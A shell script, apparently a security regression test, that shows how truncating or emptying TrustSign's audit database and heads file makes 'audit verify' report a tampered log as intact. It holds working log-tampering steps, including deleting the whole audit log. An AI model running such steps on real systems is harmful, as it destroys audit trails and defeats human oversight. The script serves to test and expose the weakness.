#!/bin/sh
# Attack: cut a whole later run off the audit log (its start seal, its records and its shutdown seal) back to an
# earlier run's shutdown seal. `audit verify --data` then reports the log intact, because a newest seal that is a
# shutdown seal is exempt from the staleness check. (Copies of the heads file kept elsewhere would catch it; the
# one in DATA is edited here as an attacker on the host would.)
# Usage: run.sh TRUSTSIGN_BINARY   (from the repository root; needs GOTOOLCHAIN=go1.27.3)
set -eu
TS=$1
D=$(mktemp -d)
go build -o "$D/truncate" ./audit/testdata/attack-truncate
run() {
  "$TS" serve --data "$D" --addr 127.0.0.1:18999 >"$D/$1.log" 2>&1 & P=$!
  until curl -sf http://127.0.0.1:18999/healthz >/dev/null; do sleep 0.2; done
  curl -s -o /dev/null -X POST http://127.0.0.1:18999/v1/password-resets -H 'Content-Type: application/json' -d '{"login":"someone"}'
  kill -TERM $P; wait $P || true
}
run run1
KEEP=$("$TS" audit verify --data "$D" --json | python3 -c 'import sys,json; print(json.load(sys.stdin)["report"]["lastSeq"])')
run run2
"$TS" audit verify --data "$D"
"$D/truncate" "$D/trustsign.db" "$KEEP"
python3 -c "import json,sys; p=sys.argv[1]; ls=[l for l in open(p) if json.loads(l)['seq']<=int(sys.argv[2])]; open(p,'w').writelines(ls)" "$D/audit-heads.jsonl" "$KEEP"
if "$TS" audit verify --data "$D"; then echo "ATTACK WORKED: a whole run was cut off and the log verifies as intact"; R=1; else R=0; fi
# and the whole log deleted (store and heads file): an empty log verifies as intact too
"$D/truncate" "$D/trustsign.db" 0
: >"$D/audit-heads.jsonl"
if "$TS" audit verify --data "$D"; then echo "ATTACK WORKED: the whole audit log was deleted and verifies as intact"; R=1; fi
exit $R
